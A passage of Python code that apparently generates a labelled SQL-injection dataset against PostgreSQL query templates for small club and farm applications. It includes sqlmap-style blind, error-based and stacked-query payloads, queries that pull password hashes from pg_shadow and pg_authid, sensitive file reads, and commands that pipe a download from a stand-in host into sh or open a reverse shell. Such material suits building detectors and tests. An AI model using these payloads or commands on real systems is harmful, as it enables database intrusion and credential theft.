 ("t20_pwsh_survey_legs", "SELECT leg_id, from_stn, to_stn, length_m FROM survey_legs WHERE survey_id = {a} AND length_m > {b}",
  {"a": S("n", ["71", "2040"]), "b": S("n", ["5", "12.5"])}),
 ("t20_firedac_rope_check", "SELECT rope_id, length_m, last_inspected FROM srt_ropes WHERE last_inspected < '{a}'::date ORDER BY {b}",
  {"a": S("q", ["2025-01-01", "2024-06-30"], "date"), "b": S("col", ["last_inspected", "length_m", "rope_id"])}),
 ("t20_firedac_member_email", "SELECT id, name FROM caving_members WHERE lower(email) = lower('{a}')",
  {"a": S("q", ["speleo@example.org", "Hannah.B@example.com"], "email")}),
 ("t20_firedac_entry_headline", "SELECT ts_headline('english', description, to_tsquery($q20${a}$q20$)) FROM cave_entries WHERE cave_id = {b}",
  {"a": S("d", ["sump & duck", "pitch"]), "b": S("n", ["14", "260"])}),
 # hydroponic farm -- Node-RED postgres node with {{msg.payload}} mustache and n8n Postgres node expressions
 ("t20_nodered_reading", "INSERT INTO hydro_readings (bay_id, ph, ec_ms, read_at) VALUES ({a}, {b}, {c}, now())",
  {"a": S("n", ["4", "21"]), "b": S("n", ["5.8", "6.1"]), "c": S("n", ["1.6", "2.2"])}),
 ("t20_nodered_bays", "SELECT bay_id, crop, ph_target FROM grow_bays WHERE crop = '{a}' AND active = true",
  {"a": S("q", ["butterhead lettuce", "basil"])}),
 ("t20_nodered_events", "SELECT id, payload FROM hydro_events WHERE payload @> '{a}'::jsonb ORDER BY id DESC LIMIT 100",
  {"a": S("q", ["{\"type\": \"pump_fault\"}", "{\"bay\": 4}"], "json")}),
 ("t20_n8n_harvests", "SELECT harvest_id, crop, kg FROM harvests WHERE harvested_on >= '{a}'::date AND crop = '{b}'",
  {"a": S("q", ["2025-05-01", "2024-12-01"], "date"), "b": S("q", ["basil", "pak choi"])}),
 ("t20_n8n_tank_recipe", "UPDATE nutrient_tanks SET recipe = '{a}', topped_up_at = now() WHERE tank_id = {b}",
  {"a": S("q", ["leafy A+B 1.8", "fruiting mix"]), "b": S("n", ["2", "6"])}),
 ("t20_n8n_box_status", "UPDATE veg_box_orders SET status = '{a}' WHERE order_id = {b} RETURNING order_id, status",
  {"a": S("q", ["packed", "delivered"]), "b": S("n", ["50211", "87"])}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t20_petapoco_triplette", "t20_aiopg_grade_members", "t20_pwsh_trip_log", "t20_rodbc_client_town"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t20_redbean_heel_update": ["price_pence", "paid", "customer_id"], "t20_gopg_kart_service": ["engine_hours", "owner_id"],
             "t20_jasync_fixture_result": ["points_home", "points_away", "verified"], "t20_aiopg_bogu_return": ["deposit_refunded", "member_id"],
             "t20_pwsh_callout_update": ["callout_contact", "leader"], "t20_n8n_tank_recipe": ["ph_target", "auto_dose"],
             "t20_n8n_box_status": ["total_pence", "refunded"], "t20_anorm_wing_check": ["owner_id", "airworthy"],
             "t20_waterline_reset_token": ["is_admin", "password_hash"], "t20_servicestack_umpire_note": ["winner_team_id", "score_home"]}
TAG = "$q20$"
CLOSER = closers(TAG)


segments, edit = corpus_kit.slot_editing(CLOSER)

CANON = {"q": ["v", "", "O'Hara", "two words", "2031-02-28", "15%", "won't"], "e": ["v", "", "it's", "C:\\yarn\\lot", "tab\there", "a\nb"],
         "d": ["v", "", "it's", "\"q\""], "qi": ["v", "She said \"go\"", "with space"], "n": ["7", "0", "-3", "2.75", "1200000", "0.5"],
         "list": ["7", "7, 8", "9,10,11", "1, 2, 3, 4"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))

CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "USING", "WITH", "NOTIFY", "TABLE", "DO", "RANGE", "GROUPS", "PARTITION", "IS", "EXECUTE", "MATCHED", "CHECK")
COND_CLAUSES = ("WHERE", "HAVING", "ON")
NO_EXPR_LEADS = ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER", "GRANT", "REVOKE", "VACUUM", "ANALYZE", "LOCK", "CREATE", "COPY", "PREPARE",
                 "EXECUTE", "SAVEPOINT", "RELEASE", "DECLARE", "FETCH", "MOVE", "CLOSE", "REFRESH", "CLUSTER", "REINDEX", "RESET")
def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    return corpus_kit.slot_info(globals(), tpl, slot)


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Siobhán O'Rourke", "Kitesurfer's Cove", "D'Arcy Farriery", "O'Sullivan's cue", "Ronnie O'Sullivan", "Bull's Eye Arms",
   "L'Escargot Boules", "Jeanne d'Aubigny", "N'Diaye", "Ma'ayan", "Shepherd's Bush Kendo", "Cobbler's Last", "Smith's Forge Yard", "Pen-y-Ghent's pot",
   "Ty'n-y-Coed", "Cathal Ó Briain", "Ng'ang'a", "Tui'asosopo", "Old Mother Hubbard's Yarns", "K'Naan", "Bo'ness Croquet", "Dell'Acqua Pianos",
   "Jack o' the Green", "Lacrosse 'Stix' Co", "the Hat 'n' Boot", "Ol' Blue Eyes"],
 "input_plain": ["kite", "bar and lines", "chicken loop", "twin tip", "depower", "heel", "insole", "welt", "resole", "hoof", "horseshoe", "clench", "anvil",
   "wing", "harness", "reserve", "thermal", "top landing", "kart", "apex", "chicane", "pole position", "baize", "cushion", "long pot", "safety",
   "oche", "double top", "checkout", "bullseye", "boule", "cochonnet", "pointer", "shooter", "hoop", "mallet", "jaws", "roquet", "crosse", "face-off",
   "goalie", "shinai", "bogu", "men", "kote", "skein", "dye lot", "cable knit", "purl", "hammer", "tuning pin", "soundboard", "unison", "sump",
   "pitch", "ladder", "survey", "nutrient film", "rockwool", "grow light", "ec meter", "lettuce"],
 "input_sql_words": ["Select Kites Ltd", "Union Jack Cobblers", "Order Order Snooker", "Table Nine Pool Hall", "Insert Sole Here", "Update Your Stride",
   "Delete the Debt Darts", "Group Leader Paragliding", "Where the Wind Blows", "Having a Ball Petanque", "Drop Knee Kitesurf", "Like Clockwork Pianos",
   "Limit Breakers Karting", "Join Hands Knitters", "Grant Street Farriers", "Begin Again Bowls", "Commit Kendo", "Rollback Ranch", "Cast On Yarns",
   "Null Point Croquet", "Exists Lacrosse", "Case Closed Caving", "drop shot practice", "select your lane -- then pay", "Truncate the Hedge Co",
   "Index Finger Knits", "Alter Course Gliding"],
 "input_url_email": ["https://kiteschool.example/lessons?spot=tarifa&level=2", "bookings@kite-school.example", "https://cobbler.example/ticket/HEEL-2291",
   "office+invoices@farrier.example", "https://paraglide.example/flights/311#track", "karts@raceway.example", "https://snooker.example/tables?date=2025-11-01",
   "captain@darts-league.example", "https://boules.example/comp/DOUBLETTE-25", "sec@croquet.example", "https://lax.example/api/v2/stats?player=1043",
   "sensei@dojo.example", "https://yarn.example/p/DK-MERINO-17?ref=mail", "tuner@pianos.example", "callout@caving.example", "ftp://hydro.example/readings/2025-06.csv",
   "mailto:grower@hydro-farm.example"],
 "input_json_text": ["{\"launch\": \"Mam Tor\"}", "{\"type\": \"pump_fault\", \"bay\": 4}", "{\"heel\": \"rubber\", \"sole\": null}", "[9, 12, 14]",
   "{\"note\": \"O'Brien's \\\"lucky\\\" cue\"}", "{}", "[]", "{\"ph\": 5.9, \"ec\": 1.7}", "{\"a\": [1, {\"b\": false}]}", "{\"grade\": \"3 dan\"}",
   "{\"wind\": {\"dir\": \"SW\", \"kts\": 22}}", "[{\"leg\": 1, \"m\": 12.5}]", "{\"emoji\": \"\\ud83e\\udea1\"}"],
 "input_unicode": ["Tarifa", "Ærøskøbing", "Kraków", "Gölcük", "Jílové", "Þingvellir", "Mam Tor — Hollins Cross", "Ōtaki", "Kyōto", "الإسكندرية",
   "مراكش", "חיפה", "Θεσσαλονίκη", "Новосибирск", "剣道", "毛线", "นักเล่นว่าว", "पियानो", "குகை", "Aotearoa", "ʻŌlelo Hawaiʻi", "Ångström",
   "u\u0308 combining", "🪁 kite", "🎯 180", "🎹 tuned", "🥬 lettuce", "🐎 shod", "Z\u200dWJ", "\u202eRLO text", "\u200eleft mark", "ﬁ ligature",
   "ʼmodifierʼ", "″ inches", "‛reversed‛", "＇fullwidth＇"],
 "input_whitespace": ["  two leading", "trailing   ", "inner  gap", "tab\tthen", "line\nbreak", "\tstart tab", "   ", "x \t y", "cr\r\nlf", "no\u00a0break",
   "      ", "thin\u2009space", "end\n", "\u3000ideographic"],
 "input_numeric_string": ["08", "0000", "2e5", "2.71828", "-7", "+12", "12,500", "0.99", "0xFF", "10_000", "000147", "-9223372036854775808", "-0.0", "4.2e-2", "٣٤"],
 "input_punctuation": ["?!?", "...", "c:\\temp\\x", "100%", "#180", "F#", "(tbc)", "[draft]", "{none}", "x--y", "6*7", "@dojo", "./", "5'11\"", "semi;colon", "-- hi",
   "/* */", "&&", ";-)", "&amp;", "<>", "'quoted'", "`back`", "$1", "$q$", "£ 12.50", "¿qué?"],
 "input_formatted": ["KITE-2025-0417", "36°00′48″N 5°36′10″W", "+34 956 00 00 00", "2025-W17", "EN 926-2 class B", "INV/561/25", "SKU-DK-MERINO-17",
   "v4.0.0-beta.2", "00:00:43.917", "1.6 mS/cm ± 0.1", "HR3 5AB", "#1E90FF", "12 m²", "Grade 3–5"],
}
SENTS = ["Gusts to 28 kn forecast after two; move the beginners to the 9 m kites and stay inside the buoys.", "Resoled with Vibram, the heel counter needs re-stitching -- quote sent.",
         "Front shoes reset, hind pair new; left fore shows a slight flare, check again in five weeks.", "Reserve repacked on 2 May; the bridle on the B-lines looks worn.",
         "Kart 14 pulls left under braking; swap the front hub before the evening session.", "Table 3 cushion is dead near the green spot -- re-rubber it over the weekend.",
         "Match abandoned at 4-4 after the oche light failed; replay on Thursday.", "Terrain 2 is flooded; use the gravel pitch and move the doublettes to 14:00.",
         "Lawn 1 hoops reset to 3 3/4 in; the corner peg is missing again.", "Goalie gloves split; order a pair in large and bill the team account.",
         "Men himo frayed and the kote palm has a hole; do not lend it out until repaired.", "Dye lot L2291-B differs slightly from B-2; warn anyone knitting a large project.",
         "A4 was 436 Hz on arrival; raised in two passes, bass strings rusty, suggest new set.", "Callout time 22:00; party of four into the main streamway, sump bypass via the duck.",
         "EC drifted to 2.4 in bay 7; dilute with RO water and recheck the dosing pump.", "select the lesson slots -- drop the cancelled ones; update the list after lunch."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2017, 2027), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2021, 2027), r.choice([" ", "T"]), r.randint(0, 23), r.randint(0, 59), r.choice(["", ":00", ":45", "+00", "+02:00", "Z"])), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 120), r.choice(["days", "hours", "weeks", "months", "minutes"])), "%d year" % r.randint(1, 3),
                         "P%dD" % r.randint(1, 60), "%d:%02d:00" % (r.randint(0, 48), r.randint(0, 59)), "%d mons %d days" % (r.randint(1, 11), r.randint(1, 27))]), "input_formatted"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["heels", "J.Okoro", "bully.boy", "purl.one", "Hannah.B", "speleo", "hoop.runner"]), r.choice(["", "+club", ".2"]),
                            r.choice(["example.org", "Example.COM", "club.example"])), "input_url_email"
    if knd == "token":
        return "".join(r.choice("0123456789abcdef") for _ in range(r.choice([12, 16, 32]))), "input_formatted"
    if knd == "json":
        return r.choice(["{\"launch\": \"%s\"}" % r.choice(["Mam Tor", "Bradwell Edge", "Rhossili"]), "{\"thermal\": %s}" % r.choice(["true", "false"]),
                         "{\"type\": \"%s\"}" % r.choice(["pump_fault", "ph_alarm", "refill"]), "{\"bay\": %d}" % r.randint(1, 30), "{\"tags\": [\"xc\", \"pb\"]}",
                         "{\"note\": \"it's ok\"}", "{}"]), "input_json_text"
    if knd == "jkey":
        return r.choice(["wind_dir", "rating", "kit_colour", "shot_clock", "max_wind_kts", "home_field"]), "input_plain"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("kite_students", "login", "pass_hash", "kiteboy"), ("cobbler_customers", "email", "card_last4", "heels@example.org"),
        ("farrier_accounts", "username", "password", "dave.farrier"), ("para_pilots", "bhpa_no", "pin", "BHPA-30117"),
        ("kart_drivers", "nickname", "pin_hash", "apexhunter"), ("snooker_members", "member_no", "passwd", "S-0204"),
        ("darts_admins", "login", "password_sha1", "fixtures"), ("BoulesMember", "Licence", "PasswordHash", "FFPJP-0412233"),
        ("croquet_players", "email", "password_hash", "sec@croquet.example"), ("lax_staff", "username", "api_token", "coach.k"),
        ("dojo_users", "username", "password", "sensei_ito"), ("yarn_customers", "email", "stripe_customer", "purl.one@example.com"),
        ("tuner_logins", "user_id", "pwd", "tuner1"), ("caving_members", "email", "emergency_pin", "speleo@example.org"),
        ("farm_integrations", "service", "secret", "n8n-webhook")]
HOSTS = ["x20.oast.example", "q.dns-catcher.example", "t20.burp-collab.example", "e.exfil-20.example.net", "k.requestbin.example"]
IPS = ["203.0.113.20", "198.51.100.202", "192.0.2.220", "203.0.113.120"]
FILES = ["/etc/passwd", "/etc/hostname", "/etc/shadow", "/proc/self/cmdline", "/proc/self/status", "PG_VERSION", "postmaster.pid", "pg_ident.conf",
         "postgresql.conf", "/var/lib/postgresql/.pgpass", "/root/.ssh/authorized_keys", "/etc/ssl/certs/ca-certificates.crt", "current_logfiles",
         "/run/secrets/db_password", "../../../etc/hosts"]
CMDS = ["whoami", "uname -a", "hostname -I", "printenv", "ls /home", "wget -qO- http://x20.oast.example/p | sh", "bash -c 'sh -i >& /dev/tcp/203.0.113.20/4444 0>&1'",
        "dig $(hostname).q.dns-catcher.example", "ps aux", "cat /etc/passwd", "id"]
ROLES = ["postgres", "pg_read_all_data", "pg_write_all_data", "pg_read_server_files", "pg_execute_server_program", "pg_monitor", "pg_checkpoint",
         "rds_superuser", "cloudsqlsuperuser", "app_owner"]
SECRET_EXPRS = ["(SELECT string_agg(rolname || ':' || coalesce(rolpassword, ''), ';') FROM pg_authid)", "(SELECT string_agg(datname, ',') FROM pg_database)",
                "(SELECT string_agg(usename || '@' || coalesce(client_addr::text, 'local'), ',') FROM pg_stat_activity)", "current_setting('hba_file')",
                "current_setting('config_file')", "(SELECT string_agg(extname || ' ' || extversion, ',') FROM pg_extension)",
                "(SELECT secret FROM farm_integrations WHERE service = 'n8n-webhook')", "(SELECT string_agg(srvname || ' ' || array_to_string(srvoptions, ','), ';') FROM pg_foreign_server)",
                "(SELECT string_agg(slot_name, ',') FROM pg_replication_slots)", "(SELECT string_agg(query, ' | ') FROM pg_stat_activity WHERE pid <> pg_backend_pid())",
                "inet_server_addr()::text", "pg_read_file('PG_VERSION')"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    t, u, p, who = loot(r)
    return r.choice(["current_user", "session_user", "version()", "current_database()", "current_setting('server_version_num')", "current_setting('port')",
                     "current_setting('hba_file')", "pg_postmaster_start_time()::text", "inet_server_port()::text", "current_schemas(true)::text",
                     "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s LIMIT 1 OFFSET %d)" % (p, t, r.randint(0, 9)),
                     "(SELECT string_agg(%s, ';') FROM %s)" % (p, t), "(SELECT to_jsonb(z)::text FROM %s z LIMIT 1)" % t] + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 40)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    return r.choice([
        ("length_gt", "length(%s) > %d" % (x, pos)), ("md5_prefix", "substr(md5(%s), 1, 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("substr_eq", "substr(%s, %d, 1) = '%s'" % (x, pos, ch)), ("ascii_substr_gt", "ascii(substr(%s, %d, 1)) > %d" % (x, pos, r.randint(48, 122))),
        ("like_prefix", "%s LIKE '%s%%'" % (x, ch)), ("regex_prefix", "%s ~ '^%s'" % (x, ch)), ("starts_with", "starts_with(%s, '%s')" % (x, ch)),
        ("left_eq", "left(%s, 1) = '%s'" % (x, ch)), ("bit_length_gt", "bit_length(%s) > %d" % (x, pos * 8)), ("get_byte_gt", "get_byte(convert_to(%s, 'UTF8'), %d) > %d" % (x, pos % 8, r.randint(48, 122))),
        ("lower_like", "lower(%s) LIKE '%%%s%%'" % (x, ch)), ("reverse_prefix", "left(reverse(%s), 1) = '%s'" % (x, ch)),
        ("split_part_eq", "split_part(%s, '.', 1) = '%s'" % (x, r.choice(["15", "16", "14"]))), ("translate_len", "length(translate(%s, '0123456789', '')) > %d" % (x, pos))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, switches and tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q%sq" % "".join(r.choice("zqxjkvbp") for _ in range(3))


DUMP = {"kite_students": ["login", "pass_hash", "phone"], "farrier_accounts": ["username", "password"], "para_pilots": ["bhpa_no", "pin", "email"],
        "kart_drivers": ["nickname", "pin_hash"], "snooker_members": ["member_no", "passwd", "handicap"], "darts_admins": ["login", "password_sha1"],
        "croquet_players": ["email", "password_hash", "reset_token"], "lax_staff": ["username", "api_token"], "dojo_users": ["username", "password", "is_sensei"],
        "yarn_customers": ["email", "stripe_customer"], "tuner_logins": ["user_id", "pwd"], "farm_integrations": ["service", "secret"]}
GUESS_TABLES = ["admin", "accounts", "user_accounts", "tbl_users", "credentials", "auth", "keys", "tokens", "customers", "orders", "wp_users", "staff"]
GUESS_COLUMNS = ["password", "passwd", "pass", "pwd", "hash", "api_key", "secret_key", "auth_token", "credit_card", "email"]


class Enc:
    """How a request spells strings and casts: CHR() by default, quotes under --no-escape, bare columns under --no-cast."""

    def __init__(self, r):
        x = r.random()
        self.switch = "--no-escape" if x < 0.15 else "--no-cast" if x < 0.22 else ""

    def s(self, v):
        return q(v) if self.switch == "--no-escape" else chrs(v)

    def cast(self, col):
        return col if self.switch == "--no-cast" else "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, self.s(" "))


def enumeration(r, o):
    """(scalar query, switch) of sqlmap's enumeration on PostgreSQL, spread over its switches the way a
    full run sends them: fingerprint (--banner, --current-user, --current-db, --hostname, --is-dba),
    --users, --passwords, --privileges, --roles, --dbs (schemas), --tables, --columns, --count and
    --dump of this file's tables."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 30)
    k = r.randrange(18)
    if k < 5:
        e, sw = corpus_kit.SQLMAP_FINGERPRINT[k]
        return "(SELECT %s)" % o.cast(e) if k < 4 else e, sw
    if k == 5:
        return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (o.cast("usename"), n % 8), "--users"
    if k == 6:
        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % (o.cast("passwd"), o.s(r.choice(ROLES[:1] + ["app_owner", "replicator"]))), "--passwords"
    if k == 7:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_shadow)", "--passwords (count)"
    if k == 8:
        return "(SELECT (CASE WHEN usecreatedb THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(r.choice(["postgres", "app_owner"])), "--privileges"
    if k == 9:
        return "(SELECT %s FROM pg_roles OFFSET %d LIMIT 1)" % (o.cast("rolname"), n % 14), "--roles"
    if k == 10:
        return "(SELECT %s FROM pg_namespace OFFSET %d LIMIT 1)" % (o.cast("nspname"), n % 6), "--dbs"
    if k == 11:
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables)", "--dbs (count)"
    if k == 12:
        return "(SELECT %s FROM pg_tables WHERE schemaname=%s OFFSET %d LIMIT 1)" % (o.cast("tablename"), o.s("public"), n % 15), "--tables -D public"
    if k == 13:
        return ("(SELECT %s FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON a.relnamespace=d.oid "
                "WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (o.cast("format_type(c.oid,b.atttypmod)"), o.s(tbl), o.s("public"), n % len(cols))), "--columns -T %s (types)" % tbl
    if k == 14:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count -T %s" % tbl
    c = r.choice(cols)
    return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n), "--dump -T %s -C %s" % (tbl, c)
def inference(r, o):
    x = r.random()
    if x < 0.05:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES)), "--common-tables"
    if x < 0.09:
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(GUESS_COLUMNS), r.choice(sorted(DUMP))), "--common-columns"
    e, sw = enumeration(r, o)
    sw = (sw + " " + o.switch).strip()
    if x < 0.72:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 64, 36])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 40), r.choice(bisection(v))), sw
    if x < 0.88:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 3), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 30), r.randint(33, 122)), sw + " (validation)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced.
    The whole PostgreSQL catalogue the way a default-level run through --level 5 sends it, with the (comment) variants."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 5, 4, 7, 10])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    if vector:
        INF, sw = inference(r, o)
        QRY, qsw = enumeration(r, o)
        tag, qtag = ":vector:" + sw, ":vector:" + (qsw + " " + o.switch).strip()
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2)])
        QRY = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = qtag = ":payload"
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    SUBQ = "(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R, R1, R2)
    GS = "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF)
    ERR = "CAST(%s||(%s)::text||%s AS NUMERIC)" % (D1, QRY, D2)
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1, "AND %d=%s" % (R, SUBQ), True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "cond", 1, "OR NOT %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 2, "OR %d=%s" % (R, SUBQ), True),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "cond", 1, "HAVING %s" % INF, False),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "Boolean-based blind - Parameter replace (CASE)", "generic", "repl", 3, "(CASE WHEN %s THEN %d ELSE NULL END)" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (original value)", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", PG, "stack", 1, ";SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1" % (R, R, INF), True),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % CW(SL), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=%s" % (R, ERR), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=%s" % (R, ERR), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(%s)" % ERR, False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, INF if vector else "%d=%d" % (R1, R1), D2), False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), False),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), False),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, False),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(CONCAT(%s,(%s)),%s))" % (q(delimiter(r)), QRY, q(delimiter(r))), False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
    ]
    if r.random() < 0.04:
        out += [(B, "SAP MaxDB boolean-based blind - ORDER BY, GROUP BY clause", "SAP MaxDB", "order", 1, ",(CASE WHEN %s THEN 1 ELSE NULL END)" % INF, False),
                (TB, "MySQL >= 5.0.12 OR time-based blind (SLEEP)", "MySQL", "cond", 2, "OR SLEEP(%d)" % SLEEP, False),
                (EB, "Oracle AND error-based - WHERE or HAVING clause (XMLType)", "Oracle", "cond", 1,
                 "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(REPLACE(REPLACE(REPLACE(REPLACE((SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL),CHR(32),CHR(113)),CHR(36),CHR(113)),CHR(64),CHR(113)),CHR(35),CHR(113)))||%s||CHR(62))) FROM DUAL)" % (R, D1, R1, R1, D2), False)]
    return [(f, t, d, p, w, pl, c, qtag if f in (EB, IQ) else tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL, in the order a run sends them."""
    oid = r.randint(10000, 99999)
    cmd = r.choice(CMDS)
    sp = r.choice([chrs, q])
    tbl = "sqlmapfile"
    return r.choice([
        ("--file-read (table create)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data bytea)" % (tbl, tbl)),
        ("--file-read (COPY)", ";COPY %s(data) FROM %s" % (tbl, sp(r.choice(FILES)))),
        ("--file-read (pg_read_file)", ";SELECT PG_READ_FILE(%s,0,%d)" % (sp(r.choice(FILES)), r.choice([1024, 8192, 65536]))),
